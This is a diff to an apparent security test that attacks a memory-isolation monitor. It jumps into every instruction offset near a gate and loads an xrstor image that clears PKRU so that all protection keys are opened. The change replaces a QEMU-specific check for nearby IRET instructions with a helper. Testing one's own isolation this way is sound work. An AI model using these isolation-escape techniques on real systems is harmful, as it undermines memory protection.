@@ -3,30 +3,18 @@
 // gates, popfq and jmp, iretq, xrstor, wrfsbase, and the middle of instructions.
 #include "attack.h"
 
-/* QEMU before 9.1 takes the fault of an IRET in ring 3 for one of ring 0, so its
- * kernel panics when something just before an IRET misreads the stack pointer. */
-static int near(const uint64_t *irets, int n, uint64_t ip)
-{
-	for (int i = 0; i < n; i++)
-		if (ip < irets[i] && ip + 48 > irets[i])
-			return 1;
-	return 0;
-}
-
 int attack(void)
 {
-	uint64_t irets[16];
 	/* A control knows what it is looking for. */
 	uint64_t from = control() ? value("monitor.fp_restore") : GATE, end = value("monitor._start");
 
 	/* An image for xrstor that opens everything: PKRU 0 in both formats. */
 	((uint64_t *)jump_area)[64] = 1 << 9;
-	int n = values("iretq", irets, 16);
 	/* With two page tables the user has the code of the first bytes only; the
 	 * rest is not mapped, and one place in it is like another. */
 	uint64_t mapped = value("isolation") == 2 ? GATE + 64 : end;
 	for (uint64_t ip = from; ip < end; ip += ip < mapped ? 1 : 61) {
-		if (emulated() && near(irets, n, ip))
+		if (near_iret(ip))
 			continue;
 		jump_prepare(ip);
 		jump_in.ax = PARACELL_KERNEL_PKRU | 1 << 9;
